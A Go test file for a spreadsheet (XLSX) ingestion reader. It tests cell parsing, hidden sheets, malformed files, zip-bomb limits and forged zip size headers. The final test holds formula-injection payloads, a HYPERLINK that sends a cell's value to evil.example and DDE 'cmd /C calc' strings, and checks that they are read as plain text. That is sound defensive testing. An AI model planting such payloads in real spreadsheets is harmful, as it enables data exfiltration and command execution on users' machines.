package xlsx_test

import (
	"archive/zip"
	"bytes"
	"errors"
	"fmt"
	"strings"
	"testing"

	"github.com/bulkdesk/bulkdesk/app/ingest/internal/xlsxgen"
	"github.com/bulkdesk/bulkdesk/app/ingest/xlsx"
	"github.com/xuri/excelize/v2"
)

// rows reads every row of sheet i as "A1=value" strings.
func rows(t *testing.T, w *xlsx.Workbook, i int) ([]string, *xlsx.SheetExtras) {
	t.Helper()
	var out []string
	extras, err := w.ReadSheet(i, func(r *xlsx.Row) error {
		var cells []string
		for _, c := range r.Cells {
			s := fmt.Sprintf("%s%d=%s", xlsx.ColumnName(c.Col), r.Number, c.Value)
			if c.Formula {
				s += fmt.Sprintf("{f=%s cached=%v}", c.FormulaText, c.Cached)
			}
			cells = append(cells, s)
		}
		if r.Hidden {
			cells = append(cells, "hidden")
		}
		out = append(out, strings.Join(cells, " "))
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	return out, extras
}

func open(t *testing.T, data []byte) *xlsx.Workbook {
	t.Helper()
	w, err := xlsx.Open(data, xlsx.DefaultLimits)
	if err != nil {
		t.Fatal(err)
	}
	return w
}

func TestSheetsAndCells(t *testing.T) {
	book := xlsxgen.Book{
		Date1904: true,
		Formats:  []string{"yyyy-mm-dd", "000000", "@"},
		Sheets: []xlsxgen.Sheet{
			{Name: "Notes", State: "hidden", Rows: []xlsxgen.Row{xlsxgen.Texts("secret")}},
			{Name: "Pay & <go>", Rows: []xlsxgen.Row{
				xlsxgen.Texts("Payroll", "", "x"),
				{Number: 3, Cells: []xlsxgen.Cell{xlsxgen.S("a&b"), xlsxgen.N("1.2345678901234568E+18"), xlsxgen.B(true), {Type: "e", Value: "#N/A"}}},
				{Hidden: true, Cells: []xlsxgen.Cell{{Col: 2, Value: "45000", Style: 1}, {Value: "123", Style: 2}}},
				{Cells: []xlsxgen.Cell{{Formula: "SUM(A1:A2)", Value: "3"}, {Formula: "A1*2", NoValue: true}, {Type: "s", Formula: "A1&\"x\"", Value: "1x"}}},
			}},
			{Name: "Empty"},
			{Name: "Very", State: "veryHidden"},
		},
	}
	w := open(t, book.Bytes())
	if !w.Date1904 {
		t.Error("date1904 not read")
	}
	var names []string
	for _, s := range w.Sheets {
		names = append(names, fmt.Sprintf("%s/%v", s.Name, s.Hidden))
	}
	if got := strings.Join(names, ","); got != "Notes/true,Pay & <go>/false,Empty/false,Very/true" {
		t.Errorf("sheets %s", got)
	}
	got, _ := rows(t, w, 1)
	want := []string{
		"A1=Payroll C1=x",
		"A3=a&b B3=1.2345678901234568E+18 C3=1 D3=#N/A",
		"B4=45000 C4=123 hidden",
		"A5=3{f=SUM(A1:A2) cached=true} B5={f=A1*2 cached=false} C5=1x{f=A1&\"x\" cached=true}",
	}
	if strings.Join(got, "\n") != strings.Join(want, "\n") {
		t.Errorf("rows:\n%s\nwant:\n%s", strings.Join(got, "\n"), strings.Join(want, "\n"))
	}
	if f := w.NumberFormat(1); f != "yyyy-mm-dd" || !xlsx.IsDateFormat(f) {
		t.Errorf("style 1 format %q", f)
	}
	if f := w.NumberFormat(2); f != "000000" || xlsx.IsDateFormat(f) {
		t.Errorf("style 2 format %q", f)
	}
	if n := w.Dimension(1); n != 5 {
		t.Errorf("dimension of sheet 1: %d rows", n)
	}
	for i, want := range []bool{true, true, false, false} {
		has, err := w.HasCells(i)
		if err != nil || has != want {
			t.Errorf("sheet %d has cells: %v, %v", i, has, err)
		}
	}
}

func TestRichTextPhoneticAndEscapes(t *testing.T) {
	data := xlsxgen.Book{Sheets: []xlsxgen.Sheet{{Name: "S", RawData: `<sheetData><row r="1"><c r="A1" t="inlineStr"><is><r><rPr><b/></rPr><t>Hel</t></r><r><t xml:space="preserve">lo &#x41;&#66;</t></r><rPh sb="0" eb="1"><t>ハ</t></rPh></is></c><c r="B1" t="inlineStr"><is><t>line_x000D_two</t></is></c><c r="C1"><v><![CDATA[42]]></v></c></row><!-- a comment --><x:row r="2" xmlns:x="urn:x"><x:c r="A2" t="b"><x:v>0</x:v></x:c></x:row></sheetData>`}}}.Bytes()
	got, _ := rows(t, open(t, data), 0)
	want := "A1=Hello AB B1=line\rtwo C1=42\nA2=0"
	if strings.Join(got, "\n") != want {
		t.Errorf("got %q, want %q", strings.Join(got, "\n"), want)
	}
}

func TestMergedAndHiddenColumns(t *testing.T) {
	data := xlsxgen.Book{Sheets: []xlsxgen.Sheet{{Name: "S", Merged: []string{"A1:C1", "B3:B5"}, Rows: []xlsxgen.Row{xlsxgen.Texts("Title")}}}}.Bytes()
	// Add a <cols> element by rewriting the sheet.
	data = rewritePart(t, data, "xl/worksheets/sheet1.xml", func(s string) string {
		return strings.Replace(s, "<sheetData>", `<cols><col min="2" max="3" width="0" hidden="1"/></cols><sheetData>`, 1)
	})
	_, extras := rows(t, open(t, data), 0)
	if len(extras.Merged) != 2 || extras.Merged[1] != (xlsx.Range{FirstCol: 1, FirstRow: 3, LastCol: 1, LastRow: 5}) {
		t.Errorf("merged %+v", extras.Merged)
	}
	if fmt.Sprint(extras.HiddenCols) != "[1 2]" {
		t.Errorf("hidden columns %v", extras.HiddenCols)
	}
}

func TestLongTokensCrossTheBuffer(t *testing.T) {
	long := strings.Repeat("é&amp;", 40000) // 200 KB of text, over the 64 KB window
	var rowsXML strings.Builder
	for i := 1; i <= 3000; i++ {
		fmt.Fprintf(&rowsXML, `<row r="%d"><c r="A%d"><v>%d</v></c></row>`, i, i, i)
	}
	fmt.Fprintf(&rowsXML, `<row r="3001"><c r="A3001" t="inlineStr"><is><t>%s</t></is></c></row>`, long)
	data := xlsxgen.Book{Sheets: []xlsxgen.Sheet{{Name: "S", RawData: "<sheetData>" + rowsXML.String() + "</sheetData>"}}}.Bytes()
	got, _ := rows(t, open(t, data), 0)
	if len(got) != 3001 || got[2999] != "A3000=3000" || got[3000] != "A3001="+strings.Repeat("é&", 40000) {
		t.Errorf("read %d rows; last %.40q", len(got), got[len(got)-1])
	}
}

func TestExcelizeWrittenWorkbook(t *testing.T) {
	f := excelize.NewFile()
	defer f.Close()
	f.SetSheetName("Sheet1", "Data")
	f.SetCellValue("Data", "A1", "id")
	f.SetCellValue("Data", "B1", "amount")
	f.SetCellValue("Data", "A2", "000123")
	f.SetCellValue("Data", "B2", 12.5)
	f.SetCellFormula("Data", "C2", "B2*2")
	f.NewSheet("Other")
	f.SetSheetVisible("Other", false)
	var buf bytes.Buffer
	if err := f.Write(&buf); err != nil {
		t.Fatal(err)
	}
	w := open(t, buf.Bytes())
	got, _ := rows(t, w, 0)
	want := "A1=id B1=amount\nA2=000123 B2=12.5 C2={f=B2*2 cached=false}"
	if strings.Join(got, "\n") != want {
		t.Errorf("got %q", strings.Join(got, "\n"))
	}
	if len(w.Sheets) != 2 || !w.Sheets[1].Hidden {
		t.Errorf("sheets %+v", w.Sheets)
	}
}

func TestBadWorkbooks(t *testing.T) {
	good := xlsxgen.Book{Sheets: []xlsxgen.Sheet{{Name: "S", Rows: []xlsxgen.Row{xlsxgen.Texts("a")}}}}.Bytes()
	var encrypted bytes.Buffer
	{
		f := excelize.NewFile()
		f.SetCellValue("Sheet1", "A1", "secret")
		if err := f.Write(&encrypted, excelize.Options{Password: "pw"}); err != nil {
			t.Fatal(err)
		}
		f.Close()
	}
	tests := []struct {
		name string
		data []byte
		want error
	}{
		{"csv text", []byte("a,b\n1,2\n"), xlsx.ErrNotZip},
		{"truncated zip", good[:len(good)/2], xlsx.ErrNotZip},
		{"legacy xls", append(append([]byte{}, 0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1), make([]byte, 600)...), xlsx.ErrLegacyXLS},
		{"password", encrypted.Bytes(), xlsx.ErrEncrypted},
		{"zip of something else", zipOf(t, map[string]string{"hello.txt": "hi"}), xlsx.ErrNotWorkbook},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			_, err := xlsx.Open(tc.data, xlsx.DefaultLimits)
			if !errors.Is(err, tc.want) {
				t.Errorf("error %v, want %v", err, tc.want)
			}
		})
	}
}

func TestZipBombIsRefused(t *testing.T) {
	// A sheet that expands to 8 MiB of spaces from a few KiB.
	bomb := "<sheetData>" + strings.Repeat(" ", 8<<20) + "</sheetData>"
	data := xlsxgen.Book{Sheets: []xlsxgen.Sheet{{Name: "S", RawData: bomb}}}.Bytes()
	_, err := readAll(data, xlsx.DefaultLimits)
	if !errors.Is(err, xlsx.ErrTooLarge) {
		t.Errorf("ratio check: %v", err)
	}
	// Without the ratio check, the size limit still stops it while
	// decompressing, whatever the header says.
	_, err = readAll(data, xlsx.Limits{MaxPartBytes: 1 << 20, MaxTotalBytes: 4 << 20, MaxRatio: 1 << 40})
	if !errors.Is(err, xlsx.ErrTooLarge) {
		t.Errorf("size limit: %v", err)
	}
	lying := rewriteHeaderSize(t, data)
	_, err = readAll(lying, xlsx.Limits{MaxPartBytes: 1 << 20, MaxTotalBytes: 4 << 20, MaxRatio: 1 << 40})
	if err == nil {
		t.Error("a part larger than its header says was read")
	}
}

func TestMalformedSheets(t *testing.T) {
	for name, raw := range map[string]string{
		"rows out of order":  `<sheetData><row r="2"><c r="A2"><v>1</v></c></row><row r="1"/></sheetData>`,
		"cells out of order": `<sheetData><row r="1"><c r="B1"><v>1</v></c><c r="A1"><v>1</v></c></row></sheetData>`,
		"bad reference":      `<sheetData><row r="1"><c r="1A"><v>1</v></c></row></sheetData>`,
		"missing string":     `<sheetData><row r="1"><c r="A1" t="s"><v>99</v></c></row></sheetData>`,
		"doctype":            `<!DOCTYPE x [<!ENTITY a "aaaa">]><sheetData/>`,
		"unterminated":       `<sheetData><row r="1"><c r="A1"`,
	} {
		t.Run(name, func(t *testing.T) {
			data := xlsxgen.Book{Sheets: []xlsxgen.Sheet{{Name: "S", RawData: raw}}}.Bytes()
			if _, err := readAll(data, xlsx.DefaultLimits); err == nil {
				t.Error("no error")
			}
		})
	}
}

func TestParseRefAndColumnName(t *testing.T) {
	for _, tc := range []struct {
		ref      string
		col, row int
	}{{"A1", 0, 1}, {"z9", 25, 9}, {"AA10", 26, 10}, {"XFD1048576", 16383, 1048576}, {"B", 1, 0}} {
		col, row, err := xlsx.ParseRef(tc.ref)
		if err != nil || col != tc.col || row != tc.row {
			t.Errorf("ParseRef(%q) = %d, %d, %v", tc.ref, col, row, err)
		}
		if got := xlsx.ColumnName(tc.col); !strings.EqualFold(got, strings.TrimRight(tc.ref, "0123456789")) {
			t.Errorf("ColumnName(%d) = %q", tc.col, got)
		}
	}
	for _, bad := range []string{"", "1", "A0", "XFE1", "A-1"} {
		if _, _, err := xlsx.ParseRef(bad); err == nil {
			t.Errorf("ParseRef(%q) accepted", bad)
		}
	}
}

func TestIsDateFormat(t *testing.T) {
	for code, want := range map[string]bool{
		"": false, "General": false, "0": false, "0.00": false, "#,##0.00": false, "0.00E+00": false, "@": false,
		"yyyy-mm-dd": true, "dd/mm/yyyy": true, "mm-dd-yy": true, "h:mm": true, "[h]:mm:ss": true,
		`[Red]#,##0`: false, `"day"0`: false, `\d0`: false, `[$€-2] #,##0.00`: false, `#,##0;[Red]-#,##0`: false,
		`[$-409]mmmm d, yyyy`: true, `yyyy"年"m"月"`: true,
	} {
		if got := xlsx.IsDateFormat(code); got != want {
			t.Errorf("IsDateFormat(%q) = %v", code, got)
		}
	}
}

func readAll(data []byte, lim xlsx.Limits) (int, error) {
	w, err := xlsx.Open(data, lim)
	if err != nil {
		return 0, err
	}
	n := 0
	_, err = w.ReadSheet(0, func(*xlsx.Row) error { n++; return nil })
	return n, err
}

func zipOf(t *testing.T, files map[string]string) []byte {
	t.Helper()
	var buf bytes.Buffer
	zw := zip.NewWriter(&buf)
	for name, content := range files {
		w, _ := zw.Create(name)
		w.Write([]byte(content))
	}
	if err := zw.Close(); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

// rewritePart returns the workbook with one part's content changed.
func rewritePart(t *testing.T, data []byte, name string, change func(string) string) []byte {
	t.Helper()
	zr, err := zip.NewReader(bytes.NewReader(data), int64(len(data)))
	if err != nil {
		t.Fatal(err)
	}
	var buf bytes.Buffer
	zw := zip.NewWriter(&buf)
	for _, f := range zr.File {
		rc, _ := f.Open()
		var b bytes.Buffer
		b.ReadFrom(rc)
		rc.Close()
		content := b.String()
		if f.Name == name {
			content = change(content)
		}
		w, _ := zw.Create(f.Name)
		w.Write([]byte(content))
	}
	zw.Close()
	return buf.Bytes()
}

// rewriteHeaderSize makes every entry's central directory claim a small
// uncompressed size, as a hostile file would.
func rewriteHeaderSize(t *testing.T, data []byte) []byte {
	t.Helper()
	out := append([]byte{}, data...)
	sig := []byte{'P', 'K', 1, 2}
	for i := 0; ; {
		j := bytes.Index(out[i:], sig)
		if j < 0 {
			break
		}
		p := i + j
		// uncompressed size is at offset 24 of a central directory header.
		copy(out[p+24:p+28], []byte{0x00, 0x10, 0, 0})
		i = p + 4
	}
	return out
}

// TestNumberCellsHoldingTextAreText reads cells stored as numbers (no
// type, or t="n") whose value is not a number: they are the text they
// hold, never a number that no later check looks at.
func TestNumberCellsHoldingTextAreText(t *testing.T) {
	data := xlsxgen.Book{Sheets: []xlsxgen.Sheet{{Name: "S", RawData: `<sheetData><row r="1">` +
		`<c r="A1"><v>=HYPERLINK("http://evil.example/?x="&amp;A2,"Click")</v></c>` +
		`<c r="B1" t="n"><v>@SUM(1+1)*cmd|' /C calc'!A0</v></c>` +
		`<c r="C1"><v>-2+3+cmd|' /C calc'!A0</v></c>` +
		`<c r="D1"><v>1050</v></c>` +
		`<c r="E1" t="n"><v> -12.5 </v></c>` +
		`<c r="F1"><v>1.2345678901234568E+18</v></c>` +
		`<c r="G1"><v>INF</v></c>` +
		`<c r="H1"><f>A1</f><v>=1+1</v></c>` +
		`<c r="I1"><v>＝1+1</v></c>` +
		`</row></sheetData>`}}}.Bytes()
	var got []string
	_, err := open(t, data).ReadSheet(0, func(r *xlsx.Row) error {
		for _, c := range r.Cells {
			kind := "number"
			if c.Type == xlsx.String {
				kind = "text"
			}
			got = append(got, fmt.Sprintf("%s=%s %q", xlsx.ColumnName(c.Col), kind, c.Value))
		}
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	want := []string{
		`A=text "=HYPERLINK(\"http://evil.example/?x=\"&A2,\"Click\")"`,
		`B=text "@SUM(1+1)*cmd|' /C calc'!A0"`,
		`C=text "-2+3+cmd|' /C calc'!A0"`,
		`D=number "1050"`,
		`E=number "-12.5"`,
		`F=number "1.2345678901234568E+18"`,
		`G=text "INF"`,
		`H=text "=1+1"`,
		`I=text "＝1+1"`,
	}
	if strings.Join(got, "\n") != strings.Join(want, "\n") {
		t.Errorf("cells:\n%s\nwant:\n%s", strings.Join(got, "\n"), strings.Join(want, "\n"))
	}
}
